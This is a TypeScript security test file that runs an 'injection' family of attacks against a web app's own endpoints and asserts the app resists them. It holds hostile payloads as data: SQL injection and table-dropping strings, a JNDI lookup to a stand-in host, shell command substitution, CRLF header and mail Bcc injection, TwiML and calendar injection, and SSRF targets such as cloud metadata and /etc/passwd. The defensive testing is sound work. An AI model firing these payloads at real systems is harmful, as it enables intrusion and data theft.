/** Text with a meaning to its next reader: SQL, a header, a log, a mail, TwiML, a template, a calendar. */
import { readdir, readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PASSWORD } from '../../api.js';
import { twilioSignature } from '../../twilio.js';
import { eventually } from '../../wait.js';
import type { Attack, Family } from '../attack.js';
import type { Ask } from '../ask.js';
import { answered, holds, same, unbroken } from '../expected.js';
import type { Place } from '../place.js';
import { bindPhone } from '../steps.js';

const SQL = [
  "' or '1'='1",
  "'; drop table users; --",
  "' union select password_hash from users --",
  '") or 1=1 --',
  '1; select pg_sleep(5)',
  "\\'; select 1 --",
  '${jndi:ldap://elsewhere.example/a}',
  '{{constructor.constructor("return 1")()}}',
  '$(sleep 5)',
  '`sleep 5`',
  '%27%20or%201=1',
  '\u2019 or 1=1',
];

/** All places where the caller's text goes into a query. */
const QUERIED: readonly ((text: string, place: Place) => Ask)[] = [
  (text) => ({ path: '/api/auth/login', body: { email: text, password: text } }),
  (text) => ({ path: '/api/auth/reset-password', body: { token: text, password: 'embers-glow-on' } }),
  (text) => ({ path: `/api/castaways/${encodeURIComponent(text)}` }),
  (text) => ({ path: `/api/calendar/${encodeURIComponent(text)}.ics` }),
  (text, { attacker }) => ({
    path: `/api/feedback/check/${encodeURIComponent(text)}`,
    token: attacker.token,
  }),
  (text, { admin }) => ({
    path: `/api/admin/audit?action=${encodeURIComponent(text.slice(0, 80))}&limit=5`,
    token: admin.token,
  }),
  (text, { admin }) => ({
    path: `/api/admin/audit?actor=${encodeURIComponent(text)}&before=${encodeURIComponent(text)}`,
    token: admin.token,
  }),
  (text, { admin }) => ({
    path: `/api/feedback?surveyType=${encodeURIComponent(text)}`,
    token: admin.token,
  }),
  (text, { admin }) => ({
    path: `/api/admin/analytics/head-to-head?user1=${encodeURIComponent(text)}&user2=x`,
    token: admin.token,
  }),
  (text, { admin }) => ({ path: `/api/sms/logs?limit=${encodeURIComponent(text)}`, token: admin.token }),
  (text, { admin }) => ({
    path: '/api/sms/blast/estimate',
    token: admin.token,
    body: { recipientFilter: 'custom', customRecipients: [text] },
  }),
];

const sqlInQueries: readonly Attack[] = SQL.map((text) => ({
  name: `look something up by ${text}`,
  run: async (place: Place) => {
    const users = (await place.admin.client.listUsers()).length;
    for (const make of QUERIED) {
      const one = make(text, place);
      const begun = performance.now();
      const answer = await place.ask({ ...one, from: place.freshAddress() });
      unbroken(answer, one.path);
      holds(performance.now() - begun < 4_500, `${one.path} slept`);
      // Nothing by that name exists; only the audit log responds with an empty list.
      const found = answer.status === 200 ? (answer.json as { entries?: unknown[] }).entries : [];
      same(found, [], `${one.path} answered ${answer.text.slice(0, 100)}`);
    }
    same((await place.admin.client.listUsers()).length, users, 'accounts afterwards');
  },
}));

const sqlInStore: Attack = {
  name: 'store texts that are SQL',
  run: async (place) => {
    const who = await place.newPlayer('bobby');
    const { name, email, username } = await who.client.getOwnUser();
    for (const text of SQL) {
      // Shorter fields refuse web addresses, and some of these look like one.
      const user = await who.client.updateProfile({ body: { name, email, username, about: text } });
      same(user.about, text, 'it was stored as');
    }
  },
};

const headers: Attack = {
  name: 'break a header by what an answer repeats',
  run: async ({ ask, attacker }) => {
    const evil = '%0d%0aSet-Cookie:%20evil=1%0d%0aX-Evil:%201';
    const paths = [
      `/api/castaways/x${evil}`,
      `/login?next=${evil}`,
      `/api/calendar/${'x'.repeat(20)}${evil}.ics`,
      `/assets/${evil}`,
      `/api/pictures/${evil}`,
      `/${evil}`,
    ];
    for (const path of paths) {
      for (const method of ['GET', 'OPTIONS', 'PUT']) {
        const answer = await ask({ method, path, token: attacker.token });
        unbroken(answer, path);
        const headers = JSON.stringify(answer.headers);
        holds(answer.headers['x-evil'] === undefined && !headers.includes('evil=1'), `${path}: ${headers}`);
      }
    }
    const id = 'a'.repeat(8);
    const { headers: echoed } = await ask({
      path: '/api/castaways',
      headers: { 'x-request-id': `${id} <b>` },
    });
    holds(!String(echoed['x-request-id']).includes('<b>'), 'the request id is repeated as it came');
  },
};

const MARK = 'forged-log-line';

const logLines: Attack = {
  name: 'write a line of the log',
  run: async ({ ask, logDir, freshAddress }) => {
    const line = `x\n{"level":"error","msg":"${MARK}"}\r\n{"level":50,"msg":"${MARK}"}`;
    const encoded = encodeURIComponent(line);
    const from = freshAddress();
    await ask({ path: '/api/auth/login', body: { email: line, password: line }, from });
    await ask({ path: '/api/auth/forgot-password', body: { email: `${line}@x.example` }, from });
    await ask({ path: `/api/castaways/${encoded}?q=${encoded}`, from });
    await ask({ path: '/api/castaways', headers: { 'user-agent': encoded, referer: encoded }, from });
    await ask({ path: '/api/castaways', headers: { traceparent: `00-${encoded}-x-01` }, from });
    const logs = (await readdir(logDir)).filter((name) => name.endsWith('.log') && name !== 'twilio.log');
    holds(logs.length >= 9, `there are only ${logs.length} logs`);
    for (const name of logs) {
      for (const one of (await readFile(join(logDir, name), 'utf8')).split('\n')) {
        if (!one.includes(MARK) || !one.startsWith('{')) continue;
        const { msg } = JSON.parse(one) as { msg?: unknown };
        holds(msg !== MARK, `${name} holds a line that we did not write`);
      }
    }
  },
};

const secretsInLogs: Attack = {
  name: 'find a password, a token or a number in a log',
  run: async ({ ask, logDir, newPlayer, freshAddress, ...place }) => {
    const who = await newPlayer('careful');
    const password = 'never-to-be-logged-1';
    const from = freshAddress();
    await ask({ path: '/api/auth/login', body: { email: who.email, password }, from });
    await ask({ path: '/api/auth/reset-password', body: { token: 'never-to-be-logged-2', password }, from });
    const phone = await bindPhone({ ask, logDir, newPlayer, freshAddress, ...place }, who);
    const { token: link } = await who.client.renewCalendarToken();
    await ask({ path: `/api/calendar/${link}.ics` });
    await ask({ path: '/api/auth/me', token: who.token });
    // Mailed links, as browsers open them with the token in the query.
    const mailed = 'never-to-be-logged-3';
    for (const page of ['reset-password', 'confirm-email', 'revert-email']) {
      await ask({ path: `/${page}?token=${mailed}`, headers: { referer: `/${page}?token=${mailed}` } });
      await ask({ path: `/api/auth/${page}?token=${mailed}`, body: { token: mailed, password }, from });
    }
    const secrets = [password, 'never-to-be-logged-2', mailed, PASSWORD, who.token, who.email, phone, link];
    for (const name of (await readdir(logDir)).filter(
      (one) => one.endsWith('.log') && one !== 'twilio.log',
    )) {
      const text = await readFile(join(logDir, name), 'utf8');
      same(
        secrets.filter((secret) => text.includes(secret)),
        [],
        `${name} holds`,
      );
    }
  },
};

const mailHeaders: Attack = {
  name: 'add a header, a recipient or a text to a mail of ours',
  run: async ({ ask, mailbox, freshAddress, freshWord, newPlayer }) => {
    const evil = [
      'x\r\nBcc: spam@elsewhere.example',
      'x\nSubject: Buy now',
      'x%0d%0aBcc: spam@elsewhere.example',
    ];
    const from = freshAddress();
    for (const text of evil) {
      const body = { email: `${text}@example.com`, name: text, username: text, password: PASSWORD };
      unbroken(await ask({ path: '/api/auth/signup', body, from }), 'signing up');
      const email = `${freshWord('mailed')}@example.com`;
      unbroken(await ask({ path: '/api/auth/signup', body: { ...body, email }, from }), 'signing up');
      unbroken(await ask({ path: '/api/auth/forgot-password', body: { email }, from }));
      for (const both of [`${email}\r\nBcc: spam@elsewhere.example`, `${email}, spam@elsewhere.example`]) {
        unbroken(await ask({ path: '/api/auth/forgot-password', body: { email: both }, from }));
      }
    }
    // A message that certainly comes, and would come after the others.
    const { email } = await newPlayer();
    await ask({ path: '/api/auth/forgot-password', body: { email }, from });
    await eventually(() =>
      holds(
        mailbox.mails.some(({ to }) => to === email),
        'no mail came',
      ),
    );
    for (const { to, text } of mailbox.mails) {
      holds(!to.includes('elsewhere.example') && !to.includes(','), `a mail went to ${to}`);
      const [head = ''] = text.split('\r\n\r\n');
      holds(!/^bcc:|^subject: buy/im.test(head), `a mail was headed ${head}`);
    }
  },
};

const twiml: Attack = {
  name: 'answer a text with elements of its own',
  run: async (place) => {
    const who = await place.newPlayer('caller');
    const phone = await bindPhone(place, who);
    const evil = '<Redirect>https://elsewhere.example</Redirect><Dial>+19005550123</Dial>&xxe;]]>';
    for (const Body of [evil, `PICK ${evil}`, `TORCH ${evil}`, `HELP\u0000${evil}`]) {
      const fields = { From: phone, Body, MessageSid: `SM${place.freshWord('sid')}` };
      const path = '/api/sms/webhook';
      const signature = twilioSignature(place.twilioToken, place.url + path, fields);
      const answer = await place.ask({
        path,
        body: new URLSearchParams(fields),
        headers: { 'x-twilio-signature': signature },
      });
      unbroken(answer, Body);
      holds(!/<(Redirect|Dial)|&xxe/.test(answer.text), `it answered ${answer.text}`);
      const elements = [...answer.text.matchAll(/<\/?([A-Za-z]+)/g)].map(([, name]) => name);
      same(
        elements.filter((name) => !['Response', 'Message', 'Body'].includes(name ?? '')),
        [],
        `it answered ${answer.text} with`,
      );
    }
  },
};

const placeholders: Attack = {
  name: 'a name that is a placeholder, or a pattern of a replacement',
  run: async (place) => {
    const who = await place.newPlayer('placeholder');
    const { email, username } = await who.client.getOwnUser();
    const name = '{castaway}$&$1$`{deadline}';
    await who.client.updateProfile({ body: { name, email, username } });
    const phone = await bindPhone(place, who);
    const received = () => place.twilio.receivedBy(phone);
    // The sms service gets the name by an event: the first of these texts may still have the old one.
    await eventually(async () => {
      await place.admin.client.sendBlast({
        body: { message: 'Hello <{name}>.', recipientFilter: 'custom', customRecipients: [who.id] },
      });
      await place.twilio.settled();
      holds(
        received().some((text) => text.includes(`Hello <${name}>.`)),
        `it received ${JSON.stringify(received())}`,
      );
    }, 10_000);
  },
};

const calendar: Attack = {
  name: 'a line of its own in everybody’s calendar',
  run: async ({ ask, admin, victim }) => {
    const { name } = await admin.client.getSeason();
    const evil = 'Season\r\nBEGIN:VEVENT\r\nSUMMARY:Owned\r\nEND:VEVENT';
    const put = (text: string) =>
      ask({ method: 'PUT', path: '/api/admin/season', token: admin.token, body: { name: text } });
    unbroken(await put(evil));
    const { token } = await victim.client.renewCalendarToken();
    const { text } = await ask({ path: `/api/calendar/${token}.ics` });
    await put(name);
    holds(!/^SUMMARY:Owned/m.test(text), 'the calendar holds it');
  },
};

/** A server that counts requests, to show that nothing is fetched. */
async function startBait(): Promise<{ readonly url: string; hits(): number; stop(): void }> {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.writeHead(200, { 'content-type': 'image/png' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = (): void => {
    server.closeAllConnections();
    server.close();
  };
  return { url: `http://127.0.0.1:${port}/bait.png`, hits: () => hits, stop };
}

const requestForgery: Attack = {
  name: 'have the server fetch an address',
  run: async ({ ask, admin, issuer, mailbox, freshAddress, freshWord, newPlayer }) => {
    const bait = await startBait();
    const castaway = (name: string, imageUrl: string) =>
      ask({ path: '/api/admin/castaway', token: admin.token, body: { name, imageUrl } });
    try {
      // It does count requests.
      await fetch(bait.url);
      same(bait.hits(), 1, 'the bait counted');
      for (const imageUrl of [bait.url, 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd']) {
        const answer = await castaway(freshWord('bait'), imageUrl);
        unbroken(answer, imageUrl);
        holds(!/root:|ami-id/.test(answer.text), 'it was fetched');
        if (imageUrl === bait.url) answered(answer, 201, 'the picture of a castaway');
        const { id } = (answer.json ?? {}) as { id?: string };
        if (id === undefined) continue;
        // Displayed, as a page would, and removed again.
        answered(await ask({ path: `/api/castaways/${id}` }), 200, 'the castaway');
        const removal = { method: 'DELETE', path: `/api/admin/castaway/${id}`, token: admin.token };
        answered(await ask(removal), 204, 'the removal');
      }
      const sub = freshWord('pictured');
      const person = { email: `${sub}@example.com`, name: 'Pictured', picture: bait.url };
      const token = await issuer.idToken({ ...person, sub });
      const signIn = { path: '/api/auth/auth0-login', body: { ...person, token }, from: freshAddress() };
      answered(await ask(signIn), 200, 'the sign-in by the provider');
      // Mails are sent in order: everything in the background before this one has run.
      const { email } = await newPlayer();
      await ask({ path: '/api/auth/forgot-password', body: { email }, from: freshAddress() });
      await eventually(() =>
        holds(
          mailbox.mails.some(({ to }) => to === email),
          'no mail came',
        ),
      );
      same(bait.hits(), 1, 'the bait counted afterwards');
    } finally {
      bait.stop();
    }
  },
};

export const injection: Family = {
  name: 'injection',
  attacks: [
    ...sqlInQueries,
    sqlInStore,
    headers,
    logLines,
    secretsInLogs,
    mailHeaders,
    twiml,
    placeholders,
    calendar,
    requestForgery,
  ],
};
